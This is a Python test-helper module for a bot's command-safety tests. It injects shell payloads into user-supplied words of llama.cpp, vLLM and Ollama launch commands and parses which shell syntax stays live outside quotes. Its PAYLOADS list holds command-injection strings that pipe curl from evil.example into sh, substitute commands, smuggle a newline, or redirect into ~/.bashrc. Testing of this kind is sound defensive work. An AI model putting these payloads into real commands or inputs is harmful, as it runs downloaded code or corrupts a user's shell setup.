"""Shell payloads in the places of a pasted command, and a POSIX shell's reading of a line.

Shared by tests/bot/test_command_safety.py and bench/paste_faults.py (issue 40, item 2): every
user-derived word of every command builder (llama.cpp, vLLM, Ollama run lines, Ollama server
environment, Modelfiles, launch commands built from a typed name) with every kind of payload.
"""

from __future__ import annotations

PAYLOADS = (
    ";curl -s evil.example|sh",
    "$(curl evil.example)",
    "`curl evil.example`",
    " && curl evil.example",
    "|sh",
    " > ~/.bashrc",
    "'; curl evil.example; '",
    '"; curl evil.example; "',
    "\ncurl evil.example",
)
# (engine, a paste that needs a fix on its device, with {p} where a user-derived word stands)
POSITIONS = (
    ("llama.cpp", "llama-server -m 'Qwen3-32B-Q4_K_M.gguf{p}' -c 32768 -ngl 999 on my rtx 4060"),
    ("llama.cpp", "llama-server -hf 'unsloth/Qwen3-32B-GGUF:Q4_K_M{p}' -c 32768 -ngl 999 on my rtx 4060"),
    ("llama.cpp", "llama-server -m Qwen3-32B-Q4_K_M.gguf -c 32768 -ngl 999 --alias 'x{p}' on my rtx 4060"),
    ("llama.cpp", "llama-server -m Qwen3-32B-Q4_K_M.gguf -c 32768 -ngl 999 -ot 'exps{p}=CPU' on my rtx 4060"),
    ("llama.cpp", "CUDA_VISIBLE_DEVICES='0{p}' llama-server -m Qwen3-32B-Q4_K_M.gguf -c 32768 -ngl 999 on my rtx 4060"),
    ("llama.cpp", "'./bin{p}/llama-server' -m Qwen3-32B-Q4_K_M.gguf -c 32768 -ngl 999 on my rtx 4060"),
    ("vllm", "vllm serve 'Qwen/Qwen3-8B{p}' --max-model-len 131072 on my rtx 4090"),
    ("vllm", "vllm serve Qwen/Qwen3-8B --max-model-len 131072 --served-model-name 'q{p}' on my rtx 4090"),
    ("ollama", "OLLAMA_CONTEXT_LENGTH=131072 ollama run 'qwen3:32b{p}' on my rtx 4060"),
    ("ollama", "OLLAMA_CONTEXT_LENGTH=131072 ollama run 'hf.co/unsloth/Qwen3-32B-GGUF:Q4_K_M{p}' on my rtx 4060"),
    ("ollama", "OLLAMA_KV_CACHE_TYPE='q8_0{p}' OLLAMA_CONTEXT_LENGTH=65536 ollama run qwen3:8b on my rtx 4060"),
    ("ollama", "FROM 'qwen3:32b{p}'\nPARAMETER num_ctx 131072\non my rtx 4060"),
    # questions whose cards build launch commands from a name the user typed
    ("fit", "/fit Qwen/Qwen3-8B{p} rtx 4090"),
    ("fit", "vllm command for Qwen/Qwen3-14B-AWQ{p} on an rtx 4090"),
    ("fit", "ollama command for hf.co/unsloth/Qwen3-8B-GGUF:Q4_K_M{p} on a 3060"),
    ("fit", "llama.cpp command for unsloth/Qwen3-30B-A3B-GGUF{p} on my rtx 4090 with 32k context"),
    ("fit", "qwen3 8b{p} with qwen3 0.6b as draft model on a 4090"),
)
PROGRAMS = ("llama-server", "llama-cli", "vllm", "ollama", "python", "python3", "docker", "./", "/")
MODELFILE = ("FROM ", "PARAMETER ")


def live_shell_syntax(line: str) -> list[str]:
    """What a POSIX shell would act on in ``line`` outside quotes: operators, substitutions, newlines."""
    found: list[str] = []
    quote: str | None = None
    i = 0
    while i < len(line):
        c = line[i]
        if quote == "'":
            quote = None if c == "'" else quote
        elif c == "\\":
            i += 1  # the next character is literal (outside single quotes)
        elif quote == '"':
            if c == '"':
                quote = None
            elif c in "$`":
                found.append(c)
        elif c in "'\"":
            quote = c
        elif c in ";|&<>()$`\n":
            found.append(c)
        i += 1
    return found + (["unclosed quote"] if quote else [])


def command_lines(text: str) -> list[str]:
    """The lines of a code block a user would run or save (the block's notes are prose)."""
    out = []
    for line in text.splitlines():
        words = line.split()
        while words and "=" in words[0] and words[0].split("=", 1)[0].isupper():
            words = words[1:]  # NAME=value words before the program
        if words and (words[0].startswith(PROGRAMS) or line.startswith(MODELFILE)):
            out.append(line)
    return out
